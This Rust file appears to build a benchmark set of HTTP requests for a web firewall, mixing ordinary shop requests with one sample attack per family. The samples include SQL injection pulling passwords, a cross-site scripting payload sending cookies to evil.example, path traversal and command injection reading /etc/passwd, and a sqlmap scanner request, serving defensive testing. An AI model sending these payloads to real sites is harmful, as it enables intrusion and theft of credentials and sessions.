//! The requests that are measured when no files are named: what a site sees on an ordinary day, and
//! one attack of each family.

use super::super::check::exchange::Exchange;
use super::super::check::raw;

/// Header fields of a browser; with the request line and `Host` some 600 bytes.
const BROWSER: &str = "Host: shop.example.org\r\n\
    User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0\r\n\
    Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n\
    Accept-Language: en-GB,en;q=0.7,de;q=0.3\r\n\
    Accept-Encoding: gzip, deflate, br, zstd\r\n\
    Referer: https://shop.example.org/catalogue/garden/tools?page=2\r\n\
    Cookie: session=8c2f4be1d09a4f6f; consent=all; basket=e0a1c2d3-55b7-4a5e-9d5f-0f6f3f9f8a21\r\n\
    Connection: keep-alive\r\n";

/// A form of 1 KiB, as a customer would fill it in.
const FORM: &str = "name=Margaret+Holloway&street=14+Orchard+Lane&town=St+Albans&postcode=AL3+4QX\
    &country=GB&email=m.holloway%40example.org&phone=%2B44+1727+555+0134&delivery=standard\
    &card=token_9f8e7d6c5b4a39281706&expires=11%2F29&gift=no&coupon=SPRING-10&newsletter=on\
    &message=Please+leave+the+parcel+with+the+neighbours+at+number+16+when+nobody+opens.+The+gate+on\
    +the+left+is+usually+unlocked+between+nine+and+six%2C+and+the+dog+is+friendly.+Many+thanks+for+the\
    +quick+reply+last+week+about+the+garden+hose%2C+it+works+very+well+with+the+new+brass+nut.";

/// A form whose message has words that rules look for: clean as well, but each is looked into.
const WORDS: &str = "name=Margaret+Holloway&message=If+the+larger+spade+is+out+of+stock%2C+select+the\
    +smaller+one+from+the+same+series+or+drop+it+from+the+order%3B+either+is+fine.+Many+thanks+for+the\
    +quick+reply+about+the+union+nut+for+the+garden+hose.";

/// The same order as an application sends it, 1 KiB.
const JSON: &str = r#"{"order":{"customer":{"name":"Margaret Holloway","email":"m.holloway@example.org","phone":"+44 1727 555 0134","address":{"street":"14 Orchard Lane","town":"St Albans","postcode":"AL3 4QX","country":"GB"}},"lines":[{"sku":"GT-1042","title":"Spade, large, ash handle","quantity":1,"price":34.9},{"sku":"GT-0077","title":"Hose union nut, brass, 3/4 inch","quantity":4,"price":2.25},{"sku":"SE-3310","title":"Sweet peas, mixed colours","quantity":2,"price":1.8}],"delivery":{"method":"standard","note":"Please leave the parcel with the neighbours at number 16 if nobody opens. The gate on the left is usually open between nine and six, and the dog is friendly."},"payment":{"kind":"card","token":"token_9f8e7d6c5b4a39281706","expires":"11/29"},"coupon":"SPRING-10","gift":false,"newsletter":true},"client":{"version":"4.18.2","locale":"en-GB","screen":[1920,1080],"time":"2026-03-14T09:26:53Z"}}"#;

/// The built-in set, each with a name.
pub(crate) fn builtin() -> Vec<(String, Exchange)> {
    let filler = |text: &str, length: usize, with: &str| {
        let mut text = text.to_owned();
        text.extend(with.chars().cycle().take(length.saturating_sub(text.len())));
        text
    };
    let get = |target: &str| format!("GET {target} HTTP/1.1\r\n{BROWSER}\r\n");
    let post = |kind: &str, body: &str| {
        format!(
            "POST /order HTTP/1.1\r\n{BROWSER}Content-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    let form = "application/x-www-form-urlencoded";
    [
        ("get", get("/")),
        (
            "get-args",
            get("/search?q=garden+hose+union&category=tools&min=5&max=80&sort=price&order=asc&page=2&view=grid&lang=en&ref=nav"),
        ),
        ("form-1k", post(form, &filler(FORM, 1024, "+and+so+on"))),
        ("words-1k", post(form, &filler(WORDS, 1024, "+please+select+one+from+these"))),
        ("json-1k", post("application/json", &filler(JSON, 1024, " "))),
        ("attack-sqli", get("/item?id=1%27%20UNION/**/SELECT%20login,password%20FROM%20users--%20-")),
        ("attack-xss", get("/search?q=%3Cscript%3Edocument.location%3D%27//evil.example/%27%2Bdocument.cookie%3C/script%3E")),
        ("attack-lfi", get("/download?file=..%252f..%252f..%252fetc%252fpasswd")),
        ("attack-rce", post(form, "host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd")),
        ("attack-protocol", "TRACE / HTTP/1.1\r\nHost: shop.example.org\r\nMax-Forwards: 0\r\n\r\n".to_owned()),
        ("attack-scanner", "GET /admin.php HTTP/1.1\r\nHost: shop.example.org\r\nUser-Agent: sqlmap/1.8.2#stable (https://sqlmap.org)\r\nAccept: */*\r\n\r\n".to_owned()),
    ]
    .into_iter()
    .map(|(name, bytes)| {
        // The texts above are requests; the test below parses each.
        (name.to_owned(), raw::parse(bytes.as_bytes()).unwrap_or_default())
    })
    .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_built_in_requests_are_what_their_names_say() {
        let requests = builtin();
        for (name, exchange) in &requests {
            assert!(!exchange.method.is_empty(), "{name}");
            assert!(exchange.header("host").is_some(), "{name}");
            if name.ends_with("-1k") {
                assert_eq!(exchange.body.len(), 1024, "{name}");
            }
        }
        let json = &requests.iter().find(|(name, _)| name == "json-1k").unwrap().1;
        assert!(serde_json::from_slice::<serde_json::Value>(&json.body).is_ok());
    }
}
